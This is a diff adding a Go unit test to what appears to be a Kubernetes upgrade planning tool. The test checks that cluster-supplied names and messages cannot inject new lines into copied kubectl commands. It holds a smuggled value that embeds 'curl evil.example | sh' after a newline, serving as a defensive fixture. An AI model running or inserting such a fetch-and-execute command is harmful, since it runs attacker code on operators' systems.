@@ -73,6 +73,46 @@ func TestHostile(t *testing.T) {
 	}
 }
 
+// TestNamesAreLines holds that what is copied begins no line that somebody who writes into the cluster chose.
+func TestNamesAreLines(t *testing.T) {
+	const evil = "x\ncurl evil.example | sh\n#"
+	lines := func(p *play, want string) {
+		t.Helper()
+		found := false
+		for _, n := range p.Subject().Names {
+			found = found || strings.Contains(n, want)
+			if strings.ContainsAny(n, "\n\r\x1b") {
+				t.Errorf("it would copy %q", n)
+			}
+		}
+		if !found {
+			t.Errorf("names %q lack %q", p.Subject().Names, want)
+		}
+	}
+	const clean = "x curl evil.example | sh #"
+	p := newPlay(t)
+	p.desk.obstacles = []disruption.Obstacle{{Cause: "budget", Pod: ref("Pod", "db", "postgres-0"), Owner: ref("StatefulSet", "db", "postgres"), Budget: ref("PodDisruptionBudget", "db", "postgres"), Blocks: true, Says: "its controller fails: " + evil}}
+	p.desk.residents = []upgrade.Resident{{Owner: ref("Deployment", "shop", evil), Pods: 1}}
+	p.single(nodeRef("n5"), 120, 35)
+	p.press(keys.Turn)
+	lines(p, clean)
+	p.press(keys.Turn)
+	lines(p, "db/postgres-0: its controller fails: "+clean)
+	p = newPlay(t)
+	p.desk.plan.Steps = []upgrade.Step{{What: "node", Object: nodeRef("n5"), Commands: []string{"kubectl drain n5", "kubectl uncordon " + evil}}}
+	p.desk.survey.nodes[0].Ref.Name = evil
+	p.desk.usage = measured()
+	p.main(120, 35)
+	p.press(keys.Last)
+	lines(p, clean)
+	p.press(keys.Turn)
+	lines(p, "kubectl uncordon "+clean)
+	p.press(keys.Copy)
+	if c := p.newest().(view.Copy); c.Text != "kubectl drain n5\nkubectl uncordon "+clean {
+		t.Errorf("copied %q", c.Text)
+	}
+}
+
 // large has so many nodes.
 func large(p *play, n int) {
 	p.desk.survey = &survey{}
